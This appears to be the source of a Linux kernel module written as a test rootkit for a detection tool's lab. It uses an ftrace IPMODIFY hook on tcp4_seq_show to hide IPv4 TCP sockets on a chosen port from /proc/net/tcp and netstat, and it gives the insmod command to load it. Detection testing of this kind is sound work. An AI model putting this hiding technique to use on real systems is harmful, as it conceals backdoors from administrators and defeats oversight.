// SPDX-License-Identifier: GPL-2.0
/*
 * pg_hide_sock: a test rootkit of patchguard's kernel lab (tests/lab/test_lab_sockets.py).
 * Socket hiding the way LKM rootkits do it (Reptile, Diamorphine's kin): an ftrace_ops with
 * IPMODIFY on tcp4_seq_show sends every call to pg_tcp4_seq_show, which skips the IPv4 TCP
 * sockets whose local port is the hidden one and calls the real function for the others.
 * netstat and everything reading /proc/net/tcp no longer list the socket; sock_diag (ss), the
 * BPF socket iterators and the bind hash still have it, which is what patchguard's sockets
 * cross-view looks for.
 *
 *   insmod pg_hide_sock.ko port=4444
 *
 * rmmod unregisters the ops and the socket is listed again.
 */
#include <linux/ftrace.h>
#include <linux/kernel.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/seq_file.h>
#include <net/sock.h>

#define TARGET "tcp4_seq_show"

static int port;
module_param(port, int, 0444);
MODULE_PARM_DESC(port, "the local TCP port whose IPv4 sockets /proc/net/tcp no longer shows");

static unsigned long hidden;
module_param(hidden, ulong, 0444);
MODULE_PARM_DESC(hidden, "how many times a socket was left out of /proc/net/tcp");

static unsigned long shown;
module_param(shown, ulong, 0444);
MODULE_PARM_DESC(shown, "how many times the real tcp4_seq_show was called");

typedef int (*seq_show_fn)(struct seq_file *, void *);
static seq_show_fn real_seq_show;
static bool registered;

static int pg_tcp4_seq_show(struct seq_file *seq, void *v)
{
	int ret;

	/* v is the header token, or a sock_common (full, request or TIME_WAIT socket). */
	if (v != SEQ_START_TOKEN && ((struct sock_common *)v)->skc_num == port) {
		WRITE_ONCE(hidden, READ_ONCE(hidden) + 1);
		return 0;
	}
	ret = real_seq_show(seq, v);
	/* Work after the call: a tail call would jump to the real function from the kernel's
	 * caller, whose return address is not in this module, and be redirected here forever. */
	WRITE_ONCE(shown, READ_ONCE(shown) + 1);
	return ret;
}

static void notrace pg_hide_callback(unsigned long ip, unsigned long parent_ip,
				     struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	/* The replacement's own call of the real function comes from this module: let it run. */
	if (!regs || within_module(parent_ip, THIS_MODULE))
		return;
	/* tcp4_seq_show is static: the ftrace site is where the real function is entered. */
	WRITE_ONCE(real_seq_show, (seq_show_fn)ip);
	regs->ip = (unsigned long)pg_tcp4_seq_show;
}

static struct ftrace_ops pg_ops = {
	.func = pg_hide_callback,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_IPMODIFY | FTRACE_OPS_FL_RECURSION,
};

static int __init pg_hide_sock_init(void)
{
	int err;

	if (port <= 0 || port > 65535)
		return -EINVAL;
	err = ftrace_set_filter(&pg_ops, TARGET, strlen(TARGET), 0);
	if (err)
		return err;
	err = register_ftrace_function(&pg_ops);
	if (err) {
		ftrace_free_filter(&pg_ops);
		return err;
	}
	registered = true;
	pr_info("pg_hide_sock: tcp port %d hidden from /proc/net/tcp\n", port);
	return 0;
}

static void __exit pg_hide_sock_exit(void)
{
	if (registered)
		unregister_ftrace_function(&pg_ops);
	ftrace_free_filter(&pg_ops);
}

module_init(pg_hide_sock_init);
module_exit(pg_hide_sock_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("patchguard lab test rootkit: socket hiding through a tcp4_seq_show hook");
